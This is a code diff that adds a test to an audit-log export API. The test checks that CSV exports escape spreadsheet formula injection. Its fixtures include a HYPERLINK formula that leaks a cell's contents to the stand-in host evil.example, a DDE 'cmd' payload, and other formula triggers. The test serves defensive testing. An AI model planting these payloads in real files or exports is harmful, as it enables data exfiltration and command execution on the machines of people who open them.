@@ -97,6 +97,8 @@ api.before(async () => {
     globexAdmin: await as('gus', 'globex', ['admin']),
     globexEditor: await as('gina', 'globex', ['editor']),
     bulkAdmin: await as('bob', 'bulk', ['admin']),
+    formulaAdmin: await as('fay', 'formula', ['admin']),
+    formulaEditor: await as('fred', 'formula', ['editor']),
   });
   // acme: 30 changes by alice (one with a reason that needs CSV quoting), 5 by the service, denials by a
   // viewer (no permit) and by an editor from another region (residency forbid).
@@ -318,6 +320,31 @@ api(`export across internal pages of ${EXPORT_PAGE}: ties on time broken by even
   assert.is(new Set(paged.map((e) => e.eventId)).size, total);
   const byActor = await allPages('actor=u-3&limit=1000', 'bulkAdmin');
   assert.is(byActor.length, rows.filter((row) => row.actor_id === 'u-3').length);
+});
+
+api('export CSV: a cell a spreadsheet would run as a formula is quoted and starts with a single quote (OWASP)', async () => {
+  // One through the API, as an attacker would write it: a command's reason.
+  const link = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
+  assert.is((await call('POST', '/v1/commands/graph.node.upsert', 'formulaEditor', upsert('svc:f', { reason: link }))).status, 201);
+  await settle();
+  // The rest straight into the index: every trigger, and text that merely contains one.
+  const dangerous = ['+1+1', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', '\n=1', '  =1+1', '\uFF1D1+1', '=cmd|\' /C calc\'!A0', '\0=1'];
+  const harmless = ['plain', 'a=b', 'ticket 7, approved', '', '1-2'];
+  const rows: AuditRow[] = [...dangerous, ...harmless].map((reason, i) => ({
+    tenant: 'formula', time: new Date(Date.UTC(2026, 0, 2, 0, 0, i)).toISOString(), actor_id: 'u', actor_type: 'user',
+    action: 'graph.node.upserted', resource: `formula/graph.node/n${i}`, outcome: 'allowed', decision_id: randomUUID(), policy_version: 'p',
+    region: 'us-east', request_id: `r-${i}`, event_id: randomUUID(), position: String(1_000_000 + i), hash: 'b'.repeat(64), reason,
+  }));
+  await analytics.insert(AUDIT_TABLE, rows);
+  const r = await call('GET', '/v1/audit/export?format=csv', 'formulaAdmin');
+  assert.is(r.status, 200, r.text);
+  const reasons = parseCsv(r.text).slice(1).map((rec) => rec[AUDIT_ENTRY_FIELDS.indexOf('reason')]!);
+  for (const reason of [link, ...dangerous]) assert.ok(reasons.includes(`'${reason}`), `escaped: ${JSON.stringify(reason)} in ${JSON.stringify(reasons)}`);
+  for (const reason of harmless) assert.ok(reasons.includes(reason), `unchanged: ${JSON.stringify(reason)}`);
+  // On the wire: quoted, so the leading quote and the formula stay in one cell.
+  assert.ok(r.text.includes(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"`), r.text);
+  // No field starts with a trigger, whatever a reader does with quotes.
+  for (const record of parseCsv(r.text)) for (const field of record) assert.not.match(field, /^[=+\-@\t\r\n\uFF1D]/, field);
 });
 
 api('the OpenAPI document describes both routes', async () => {
